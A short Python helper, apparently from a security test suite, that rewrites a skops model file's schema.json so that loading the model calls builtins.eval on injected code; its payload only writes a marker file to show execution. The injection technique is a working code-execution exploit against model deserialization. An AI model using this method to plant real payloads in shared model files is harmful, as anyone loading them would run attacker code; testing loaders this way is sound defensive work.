"""Make a skops model file that runs code when loaded, as a hostile kept run or model would."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path


def tamper(model_file: Path, marker: Path, module: str = "builtins", name: str = "eval") -> None:
    """Add an attribute whose loading calls ``module.name`` on code that writes ``marker``.

    If ``marker`` exists afterwards, the payload ran.
    """
    code = f"__import__('pathlib').Path({str(marker)!r}).write_text('ran')"
    payload = {"__class__": name, "__module__": module,
               "__loader__": "ConstructorFromReduceNode",
               "content": {"__class__": "tuple", "__module__": "builtins",
                           "__loader__": "TupleNode",
                           "content": [{"__class__": "str", "__module__": "builtins",
                                        "__loader__": "JsonNode", "content": json.dumps(code),
                                        "is_json": True}]}}
    with zipfile.ZipFile(model_file) as source:
        files = {n: source.read(n) for n in source.namelist()}
    schema = json.loads(files["schema.json"])
    attributes = schema["content"]
    attributes["content"]["note"] = payload
    # the attribute dict zips its keys with their types: without one, 'note' is dropped
    attributes["key_types"]["content"].append(
        {"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode"})
    files["schema.json"] = json.dumps(schema).encode()
    with zipfile.ZipFile(model_file, "w") as target:
        for file_name, data in files.items():
            target.writestr(file_name, data)
